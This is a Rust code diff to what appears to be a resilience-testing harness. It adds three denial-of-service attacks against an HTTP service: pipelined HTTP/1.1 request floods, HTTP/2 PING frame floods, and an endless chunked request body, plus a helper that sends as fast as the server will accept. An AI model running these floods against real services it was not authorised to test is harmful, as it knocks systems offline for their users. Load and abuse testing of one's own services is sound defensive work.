@@ -19,6 +19,8 @@ const FILE: &str = "/docs/swagger-ui-bundle.js";
 const STREAMS: usize = 64;
 /// How long a connection is kept that the service does not end.
 const KEPT: Duration = Duration::from_secs(60);
+/// How a connection of HTTP/2 starts, with its settings, in bytes.
+const PREFACE: usize = 24 + 9;
 /// How long an attacker waits before it opens another connection.
 const PAUSE: Duration = Duration::from_millis(100);
 
@@ -41,12 +43,18 @@ pub enum Attack {
     OpenHeads,
     /// Sends small documents that become millions of values.
     Documents,
+    /// Asks for something small over HTTP/1.1, again and again, before the answers are there.
+    Requests,
+    /// Sends frames of HTTP/2 that ask nothing, again and again.
+    Frames,
+    /// Sends a chunk whose size has no end.
+    HollowChunks,
     /// Opens connections and says nothing.
     Silence,
 }
 
 /// Every attack, with its name and the number of its connections.
-pub const ALL: [(Attack, &str, usize); 9] = [
+pub const ALL: [(Attack, &str, usize); 12] = [
     (Attack::Streams, "streams", 60),
     (Attack::ClosedWindows, "closed windows", 60),
     (Attack::NonReaders, "non-readers", 100),
@@ -55,6 +63,9 @@ pub const ALL: [(Attack, &str, usize); 9] = [
     (Attack::RefusedHeads, "refused heads", 50),
     (Attack::OpenHeads, "open heads", 800),
     (Attack::Documents, "compressed documents", 16),
+    (Attack::Requests, "pipelined requests", 12),
+    (Attack::Frames, "frames that ask nothing", 100),
+    (Attack::HollowChunks, "hollow chunks", 100),
     (Attack::Silence, "silence", 2_500),
 ];
 
@@ -64,6 +75,9 @@ pub fn start(attack: Attack, connections: usize, address: SocketAddr) -> JoinSet
         Attack::RefusedHeads => heads(600).into(),
         Attack::OpenHeads => heads(440).into(),
         Attack::Documents => document().into(),
+        Attack::Requests => b"GET /v1/releases HTTP/1.1\r\nhost: x\r\n\r\n".repeat(1_000).into(),
+        Attack::Frames => pings().into(),
+        Attack::HollowChunks => [b'0'; 1 << 16].into(),
         _ => large().into_bytes().into(),
     };
     let mut attackers = JoinSet::new();
@@ -120,9 +134,25 @@ impl Attack {
                 stream.write_all(&[head.as_bytes(), sent].concat()).await.ok()?;
                 stream.read(&mut [0; 1 << 10]).await.ok().map(drop)
             }
+            Attack::Requests => press(stream, b"", sent).await,
+            Attack::Frames => press(stream, &heads(0)[..PREFACE], sent).await,
+            Attack::HollowChunks => {
+                let head = "POST /v1/plan HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n";
+                press(stream, head.as_bytes(), sent).await
+            }
             Attack::Silence => stream.read(&mut [0]).await.ok().map(drop),
         }
     }
+}
+
+/// Sends as fast as the service takes it, and drops what it answers.
+async fn press(stream: TcpStream, start: &[u8], again: &[u8]) -> Option<()> {
+    let (mut answers, mut requests) = stream.into_split();
+    requests.write_all(start).await.ok()?;
+    let sends = async { while requests.write_all(again).await.is_ok() {} };
+    let reads = async { while answers.read(&mut [0; 1 << 14]).await.is_ok_and(|more| 0 < more) {} };
+    tokio::join!(sends, reads);
+    Some(())
 }
 
 /// A connection of HTTP/2 with as many streams as it may have, of which nothing is read.
@@ -156,6 +186,11 @@ fn heads(fields: usize) -> Vec<u8> {
     let mut bytes = [&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..], &frame(settings, 0, 0, &[])].concat();
     bytes.extend((0..8).flat_map(|number| frame(headers, end_headers, 2 * number + 1, &head)));
     bytes
+}
+
+/// Many frames of HTTP/2 that have an answer and ask nothing.
+fn pings() -> Vec<u8> {
+    [&[0, 0, 8, 0x6, 0, 0, 0, 0, 0][..], &[0; 8]].concat().repeat(2_000)
 }
 
 /// A document of questions that is small as it is sent, and has millions of values.
